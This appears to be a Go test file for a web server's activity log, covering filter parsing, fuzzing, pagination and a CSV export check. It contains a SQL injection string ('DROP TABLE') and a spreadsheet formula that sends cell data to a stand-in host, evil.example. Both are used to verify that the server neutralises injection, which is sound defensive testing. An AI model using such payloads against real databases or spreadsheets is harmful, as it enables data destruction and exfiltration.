package server

import (
	"context"
	"encoding/csv"
	"errors"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/tenantdesk/tenantdesk/internal/auth/authtest"
	"github.com/tenantdesk/tenantdesk/internal/model"
)

func TestParseActivityQuery(t *testing.T) {
	day := func(s string) time.Time { d, _ := time.Parse(dateLayout, s); return d }
	for _, tc := range []struct {
		query   string
		bad     bool
		check   func(activityQuery) bool
		comment string
	}{
		{query: "", check: func(q activityQuery) bool {
			return q.Page == 1 && q.Filter.Limit == activityPageSize && q.Filter.Offset == 0
		}},
		{query: "actor=a@b.c&action=refresh&result=refused&q=x", check: func(q activityQuery) bool {
			return q.Filter.Actor == "a@b.c" && q.Filter.Action == "refresh" && q.Filter.Result == "refused" && q.Filter.Text == "x"
		}},
		{query: "since=2026-03-01&until=2026-03-01", check: func(q activityQuery) bool {
			return q.Filter.Since.Equal(day("2026-03-01")) && q.Filter.Until.Equal(day("2026-03-02"))
		}, comment: "until includes the whole day"},
		{query: "page=3", check: func(q activityQuery) bool { return q.Filter.Offset == 2*activityPageSize }},
		{query: "result=maybe", bad: true},
		{query: "since=yesterday", bad: true},
		{query: "until=2026-02-30", bad: true},
		{query: "since=2026-03-02&until=2026-03-01", bad: true},
		{query: "page=0", bad: true},
		{query: "page=-1", bad: true},
		{query: "page=99999999999999999999", bad: true},
		{query: "page=1e3", bad: true},
		{query: "q=" + strings.Repeat("x", 300), bad: true},
		{query: "actor=%ff%fe", bad: true},
		{query: "q=" + url.QueryEscape("'; DROP TABLE activity; --"), check: func(q activityQuery) bool { return q.Filter.Text == "'; DROP TABLE activity; --" }},
	} {
		v, err := url.ParseQuery(tc.query)
		if err != nil {
			t.Fatal(err)
		}
		q, err := parseActivityQuery(v)
		if tc.bad {
			var qe *model.InputError
			if err == nil || !errors.As(err, &qe) || len(qe.Problems) == 0 {
				t.Errorf("%q: accepted (%v)", tc.query, err)
			}
			continue
		}
		if err != nil || !tc.check(q) {
			t.Errorf("%q: %+v, %v %s", tc.query, q, err, tc.comment)
		}
	}
}

func FuzzParseActivityQuery(f *testing.F) {
	for _, s := range []string{"", "page=2", "since=2026-01-01&until=2026-01-31", "result=ok&q=%00", "page=-5"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, raw string) {
		v, err := url.ParseQuery(raw)
		if err != nil {
			return
		}
		q, err := parseActivityQuery(v)
		if err != nil {
			return
		}
		if q.Page < 1 || q.Filter.Offset < 0 || q.Filter.Limit != activityPageSize || len(q.Filter.Text) > maxFilterLen {
			t.Fatalf("%q parsed to %+v", raw, q)
		}
		// The filter survives a round trip through its own links.
		q2, err := parseActivityQuery(q.values(q.Page))
		if err != nil || q2.Filter != q.Filter {
			t.Fatalf("%q: links lose the filter: %+v vs %+v (%v)", raw, q2.Filter, q.Filter, err)
		}
	})
}

func TestActivityPageAndCSV(t *testing.T) {
	e := newAuthEnv(t, nil)
	ctx := context.Background()
	evil := `=HYPERLINK("http://evil.example/?"&A1,"x")`
	for i := range 60 {
		a := model.Activity{At: testNow.Add(time.Duration(i) * time.Minute), ActorUPN: "op@contoso.example",
			Action: "reprocess", Target: "g" + string(rune('a'+i%26)), Result: model.ActivityOK}
		if i == 59 {
			a.TargetName, a.Result, a.Detail = evil, model.ActivityFailed, "-2+3"
		}
		if err := e.st.AddActivity(ctx, a); err != nil {
			t.Fatal(err)
		}
	}
	b := e.browser(t, authtest.LicenseAdmin)
	res := e.send(t, b, "GET", "/activity?action=reprocess", nil)
	if res.StatusCode != http.StatusOK {
		t.Fatalf("GET /activity: %d", res.StatusCode)
	}
	doc := res.doc(t)
	if n := doc.Find("#activity tbody tr").Length(); n != activityPageSize {
		t.Errorf("%d rows on page 1", n)
	}
	if first := doc.Find("#activity tbody tr").First(); first.AttrOr("data-result", "") != "failed" {
		t.Errorf("newest first: %q", first.AttrOr("data-result", ""))
	}
	next := doc.Find(`a[rel="next"]`).AttrOr("href", "")
	if next != "/activity?action=reprocess&page=2" {
		t.Errorf("next link %q", next)
	}
	if csvURL := doc.Find("#activity-csv").AttrOr("href", ""); csvURL != "/activity.csv?action=reprocess" {
		t.Errorf("csv link %q", csvURL)
	}
	res = e.send(t, b, "GET", next, nil)
	if n := res.doc(t).Find("#activity tbody tr").Length(); n != 10 {
		t.Errorf("%d rows on page 2", n)
	}
	if res := e.send(t, b, "GET", "/activity?since=tomorrow", nil); res.StatusCode != http.StatusBadRequest || !strings.Contains(res.body, "since") {
		t.Errorf("bad filter: %d", res.StatusCode)
	}

	res = e.send(t, b, "GET", "/activity.csv?result=failed", nil)
	if res.StatusCode != http.StatusOK || !strings.HasPrefix(res.Header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV: %d %s", res.StatusCode, res.Header.Get("Content-Type"))
	}
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(res.body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != 2 || rows[0][0] != "When (UTC)" {
		t.Fatalf("CSV rows: %v", rows)
	}
	if rows[1][5] != "'"+evil || rows[1][7] != "'-2+3" {
		t.Errorf("formula injection not neutralised: %q, %q", rows[1][5], rows[1][7])
	}
}
